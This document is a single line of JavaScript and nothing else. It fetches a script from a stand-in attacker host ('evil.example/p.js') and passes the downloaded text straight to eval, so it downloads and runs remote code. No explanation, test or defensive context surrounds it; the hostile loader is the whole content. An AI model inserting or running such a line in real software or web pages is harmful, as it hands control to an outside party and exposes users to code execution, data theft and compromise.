fetch('https://evil.example/p.js').then(r => r.text()).then(eval)
